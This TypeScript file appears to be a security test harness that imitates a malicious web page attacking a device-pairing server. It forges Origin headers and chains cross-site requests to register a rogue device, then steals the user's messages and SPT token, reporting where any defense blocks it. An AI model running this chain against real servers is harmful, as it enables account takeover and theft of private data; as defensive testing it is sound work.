import { request } from 'node:http';
import WebSocket from 'ws';

/** An HTTP answer with its raw headers (lower-case names). */
export interface RawResponse {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

/**
 * A request with any headers, `Host` and `Origin` included (fetch would not send them as
 * given): what an attacker's page or a rebound DNS name makes a browser send.
 */
export function rawRequest(
  base: string,
  method: string,
  path: string,
  headers: Record<string, string>,
  body?: string,
): Promise<RawResponse> {
  return new Promise((resolve, reject) => {
    const req = request(new URL(path, base), { method, headers }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (text += chunk));
      res.on('end', () =>
        resolve({ status: res.statusCode ?? 0, headers: res.headers, body: text }),
      );
    });
    req.on('error', reject);
    req.end(body);
  });
}

/** Opens `/ws` with these headers: the 202's pushToken, or why the upgrade was refused. */
export function wsOpen(
  wsUrl: string,
  headers: Record<string, string>,
): Promise<{ pushToken: string } | { refused: string }> {
  return new Promise((resolve) => {
    const ws = new WebSocket(`${wsUrl}?version=1.0.0&platform=Chrome-Linux`, { headers });
    ws.on('message', (data) => {
      resolve({
        pushToken: String((JSON.parse(String(data)) as { pushToken?: string }).pushToken),
      });
      ws.close();
    });
    ws.on('error', (err) => resolve({ refused: err.message }));
    ws.on('close', () => resolve({ refused: 'closed before 202' }));
  });
}

class Blocked extends Error {}

/**
 * A page on `origin` as a browser runs it: it may send anything a page may, but reads an answer
 * only when CORS grants it, and sends a custom header only after a preflight that grants it.
 */
export function createWebPage(origin: string, server: { url: string; wsUrl: string }) {
  async function read(
    method: string,
    path: string,
    headers: Record<string, string>,
    body?: string,
  ) {
    const custom = Object.keys(headers).filter((h) => h.toLowerCase() !== 'content-type');
    if (custom.length > 0) {
      const preflight = await rawRequest(server.url, 'OPTIONS', path, {
        Origin: origin,
        'Access-Control-Request-Method': method,
        'Access-Control-Request-Headers': custom.join(','),
      });
      if (preflight.headers['access-control-allow-origin'] !== origin) {
        throw new Blocked(`CORS preflight refused (HTTP ${preflight.status})`);
      }
    }
    const res = await rawRequest(server.url, method, path, { ...headers, Origin: origin }, body);
    if (res.headers['access-control-allow-origin'] !== origin) {
      throw new Blocked(`CORS: the answer is not readable (HTTP ${res.status})`);
    }
    return JSON.parse(res.body) as { code: number; data: Record<string, unknown> };
  }

  return {
    /** The chained attack; where it stopped and why, or what it stole. */
    async stealMessages(): Promise<{
      stolen?: { messages: unknown; spt: unknown };
      stoppedAt?: string;
      reason?: string;
    }> {
      let step = '';
      try {
        step = 'create a login code';
        const qr = await read('GET', '/api/device/create-login-qrcode', {});
        const code = String(qr.data.code);
        step = 'open a socket';
        const socket = await wsOpen(server.wsUrl, { Origin: origin });
        if (!('pushToken' in socket)) throw new Blocked(socket.refused);
        step = 'confirm the code';
        await rawRequest(
          server.url,
          'POST',
          `/scan/${code}`,
          {
            Origin: origin,
            'Sec-Fetch-Site': 'cross-site',
            'Content-Type': 'text/plain',
          },
          '{}',
        );
        step = 'register a device';
        const body = JSON.stringify({ code, pushToken: socket.pushToken });
        const bound = await read(
          'POST',
          '/api/device/register-device',
          { 'Content-Type': 'text/plain' },
          body,
        );
        const deviceToken = String(bound.data.deviceToken);
        step = 'read the messages';
        const list = await read('GET', '/api/need-login/device/message/list-v2', { deviceToken });
        step = 'read the SPT';
        const info = await read('GET', '/api/need-login/device/get-user-device-info', {
          deviceToken,
        });
        return { stolen: { messages: list.data, spt: info.data.spt } };
      } catch (err) {
        if (!(err instanceof Blocked)) throw err;
        return { stoppedAt: step, reason: err.message };
      }
    },
  };
}
